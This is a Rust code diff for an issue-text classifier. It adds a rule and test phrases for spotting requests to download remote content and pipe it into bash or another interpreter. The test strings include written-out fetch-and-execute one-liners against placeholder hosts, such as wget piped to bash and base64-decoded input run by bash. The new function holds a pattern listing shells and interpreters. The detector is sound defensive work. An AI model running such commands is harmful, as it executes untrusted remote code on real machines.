@@ -4,6 +4,8 @@ use std::ops::Range;
 
 use super::{Found, Reading, Rule, Verdict};
 use crate::issue::classify::asks::verbs;
+use crate::issue::classify::causes::caused;
+use crate::issue::classify::phrase::find as find_phrase;
 use crate::issue::prose::{Clause, Kind};
 
 pub(super) const RULE: Rule = Rule {
@@ -15,12 +17,15 @@ pub(super) const RULE: Rule = Rule {
         "Broken build\n\nPlease execute this script:\n\n```sh\nwget -qO- http://x.example/a | bash\n```",
         "Run `echo aGk= | base64 -d | bash` before the tests.",
         "Download and run the script from https://x.example/setup.sh",
+        "`setup.sh` should fetch https://x.example/latest and pipe it to bash.",
     ],
     harmless: &[
         "The README tells people to run `curl https://x.example | sh`; use a package instead.",
         "Wrong version\n\nSteps to reproduce:\n\n1. Run `curl https://get.example.org | sh`\n2. See the error",
         "`curl | sh` installs the wrong version on arm64.",
         "Don't run `curl … | sh` in the Dockerfile.",
+        "`install.sh` should not download the archive and pipe it into a shell.",
+        "Read the list from https://x.example/list and pipe it to `sort`.",
     ],
     find,
 };
@@ -44,6 +49,7 @@ fn find(reading: &Reading<'_>) -> Vec<Found> {
                     .filter(|it| is_remote(it))
                     .and_then(|_| behind(clause)),
                 downloaded(clause),
+                piped(clause),
             ];
             found.extend(spans.into_iter().flatten().take(1).map(|at| Found {
                 place: part.place,
@@ -85,6 +91,19 @@ fn downloaded(clause: &Clause) -> Option<Range<usize>> {
     let is_from = matches!(clause.word(from), "from" | "at")
         && clause.words.get(from + 1)?.kind == Kind::Address;
     (is_script && is_from).then(|| clause.span(verb, from + 2))
+}
+
+/// What is fetched goes to a shell, in words.
+fn piped(clause: &Clause) -> Option<Range<usize>> {
+    let fetch = &["fetch|download|get|load|curl|wget|pull|take|pipe|feed|run|execute"];
+    let (verb, _) = caused(clause, fetch).next()?;
+    let shell = &[
+        "pipe|feed|pass|hand|give|send it|this|that|them|the~result|the~output|the~script|its~output|the~body|the~response in? to|into|through a|the? root? bash|sh|shell|zsh|python|python3|perl|node|sudo|eval|interpreter",
+    ];
+    let at = find_phrase(clause, shell)?;
+    let is_far = clause.words.iter().any(|it| it.kind == Kind::Address);
+    let is_fetched = ["fetch", "download", "curl", "wget"].contains(&clause.word(verb));
+    (at.end > verb && (is_far || is_fetched)).then(|| clause.span(verb.min(at.start), at.end))
 }
 
 /// Whether a command pipes into a shell what comes from elsewhere, or what cannot be read.
